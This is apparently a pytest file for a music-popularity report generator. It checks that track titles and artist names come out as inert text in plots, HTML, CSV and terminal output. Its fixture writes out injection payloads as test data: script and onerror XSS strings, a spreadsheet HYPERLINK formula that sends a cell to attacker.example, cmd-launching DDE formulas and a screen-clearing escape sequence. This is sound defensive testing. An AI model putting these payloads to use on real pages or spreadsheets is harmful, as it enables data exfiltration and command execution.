"""What users read is text: titles and artists never become mathtext in the plots, markup in the
HTML page, or formulas in the CSV (no Spark: the report is written from an in-memory lake)."""
from __future__ import annotations

import csv
import datetime as dt
import re

import numpy as np
import pandas as pd
import pytest

from hitpredict.scoring import report as report_module
from hitpredict.scoring.report import write_report

NOW = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)
SCRIPT = "<script>document.title='pwned'</script>"
# (track_id, title, artist, region, similar artist): every user string a report shows.
HOSTILE = [
    ("t1", "Ca$h #1", "Ty Dolla $ign", "West $ide", "A$AP Rocky"),
    ("t2", SCRIPT, "<img src=x onerror=alert(1)>", "<b>South</b>", "</td><script>x()</script>"),
    ("t3", '=HYPERLINK("http://attacker.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+East",
     "-2+3+cmd|' /C calc'!A0"),
    ("t4", "\tTabbed", "\rCarriage", "-", "=1+1"),
    ("t5", r"$\frac{1}{0}$ \textbf{x}", "$$", "Midwest", "Plain"),
]


class MemoryLake:
    """The two tables ``latest_scores`` reads, in memory."""

    def __init__(self, scores: pd.DataFrame, catalogue: pd.DataFrame) -> None:
        self.tables = {"scores": scores, "catalogue": catalogue}

    def read_columns(self, name: str, columns: list[str]):
        frame = self.tables[name][columns]

        class Table:
            def to_pandas(self) -> pd.DataFrame:
                return frame.copy()
        return Table()

    def location(self, name: str) -> str:
        return f"memory://{name}"


def hostile_lake() -> MemoryLake:
    n = len(HOSTILE)
    scores = pd.DataFrame({
        "track_id": [h[0] for h in HOSTILE], "model_name": ["hitpredict-popular"] * n, "model_version": ["1"] * n,
        "prob_popular": np.linspace(0.9, 0.1, n), "popularity_pred": [None] * n,
        "percentile": np.linspace(95.0, 5.0, n), "similar_artists": [[{"artist": h[4], "prob": 0.5}] for h in HOSTILE],
        "region": [h[3] for h in HOSTILE],
        "segment_importance": [[-0.25, 0.125, 0.0], [0.5, -0.5, 0.1], [0.0, 0.0, 0.0], [-1.0, 1.0, 0.0],
                               [0.2, 0.1, -0.3]],
        "scored_at": [NOW] * n,
    })
    catalogue = pd.DataFrame({"track_id": [h[0] for h in HOSTILE], "title": [h[1] for h in HOSTILE],
                              "primary_artist": [h[2] for h in HOSTILE]})
    return MemoryLake(scores, catalogue)


@pytest.fixture()
def written(tmp_path, monkeypatch):
    """The report of five tracks whose titles, artists, regions and similar artists are hostile."""
    rng = np.random.default_rng(0)
    mels = {h[0]: (rng.normal(-40, 10, (16, 64)).astype(np.float32), 3.0) for h in HOSTILE}
    monkeypatch.setattr(report_module, "_spectrograms", lambda lake, ids: {i: mels[i] for i in ids})
    return write_report(hostile_lake(), tmp_path / "report", top=10, strips=5, segment_seconds=1.0)


def test_titles_with_dollars_are_drawn_as_text_and_the_report_is_written(written):
    """``Ca$h #1`` by ``Ty Dolla $ign`` made matplotlib parse mathtext and the report crashed."""
    assert written.html.is_file() and written.csv.is_file()
    strips = sorted(p.name for p in written.images if p.name.startswith("strip_"))
    assert strips == [f"strip_{i:02d}.png" for i in range(1, 6)]
    assert all(p.stat().st_size > 1000 for p in written.images)


def test_a_class_label_with_dollars_is_drawn_as_text(tmp_path):
    """Artist names are the tick labels of the artist model's confusion matrix."""
    from hitpredict.train.plots import confusion_plot

    labels = ["Ty Dolla $ign", "Ca$h #1 feat. Ty Dolla $ign"]
    path = confusion_plot([[3, 1], [0, 2]], labels, tmp_path / "confusion.png")
    assert path.stat().st_size > 1000


def test_markup_in_titles_and_artists_is_inert_in_the_page(written):
    page = written.html.read_text(encoding="utf-8")
    body = page[page.index("<body>"):]
    scripts = re.findall(r"<script\b", body)
    assert len(scripts) == 1            # the page's own image counter, nothing from the data
    assert "<img src=x" not in page and "<b>South</b>" not in page and "</td><script>" not in page
    assert "&lt;script&gt;document.title=&#x27;pwned&#x27;&lt;/script&gt;" in page
    assert "Ty Dolla $ign" in page and "&lt;b&gt;South&lt;/b&gt;" in page
    alts = re.findall(r'alt="([^"]*)"', page)   # strip titles in attributes: escaped quotes and brackets
    assert any("&lt;script&gt;" in a for a in alts) and not any("<" in a for a in alts)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers(written):
    with written.csv.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["track_id"] for r in rows] == [h[0] for h in HOSTILE]
    text_columns = ("track_id", "title", "primary_artist", "region", "similar_artists", "segment_importance", "models")
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    by_id = {r["track_id"]: r for r in rows}
    assert by_id["t3"]["title"] == "'" + HOSTILE[2][1]
    assert by_id["t3"]["primary_artist"] == "'" + HOSTILE[2][2]
    assert by_id["t3"]["region"] == "'+East"
    assert by_id["t3"]["similar_artists"] == "'-2+3+cmd|' /C calc'!A0:0.5000"
    assert by_id["t4"]["title"] == "'\tTabbed" and by_id["t4"]["primary_artist"] == "'\rCarriage"
    assert by_id["t1"]["title"] == "Ca$h #1"                    # harmless text unchanged
    assert by_id["t1"]["segment_importance"] == "'-0.25000;0.12500;0.00000"
    assert by_id["t2"]["segment_importance"] == "0.50000;-0.50000;0.10000"
    for row in rows:                                            # numeric columns are plain numbers
        float(row["prob_popular"]), float(row["percentile"]), int(row["rank"])


def test_neutralise_cell_changes_text_only():
    from hitpredict.scoring.report import neutralise_cell

    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("@A1") == "'@A1" and neutralise_cell("+A1") == "'+A1" and neutralise_cell("-A1") == "'-A1"
    assert neutralise_cell("\t=1") == "'\t=1" and neutralise_cell("\r=1") == "'\r=1"
    assert neutralise_cell("-3.5") == "-3.5" and neutralise_cell("+2e-3") == "+2e-3"   # one number: data
    assert neutralise_cell("-1+2") == "'-1+2" and neutralise_cell("- 1") == "'- 1"
    assert neutralise_cell(-3.5) == -3.5 and neutralise_cell(None) is None
    assert neutralise_cell("Ca$h") == "Ca$h" and neutralise_cell("") == ""


def test_the_terminal_table_shows_control_characters_as_text(capsys):
    """``report`` and ``demo`` print the top tracks: an escape sequence in a title stays inert text."""
    from hitpredict.cli import print_top
    from hitpredict.scoring.view import latest_scores

    lake = hostile_lake()
    lake.tables["catalogue"].loc[0, "title"] = "Clear\x1b[2J\x1b[1;1Hscreen"
    print_top(latest_scores(lake), 10)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\r" not in out and "\t" not in out
    assert "Clear\\x1b[2J\\x1b[1;1Hscreen" in out and "\\rCarriage" in out and "Ty Dolla $ign" in out
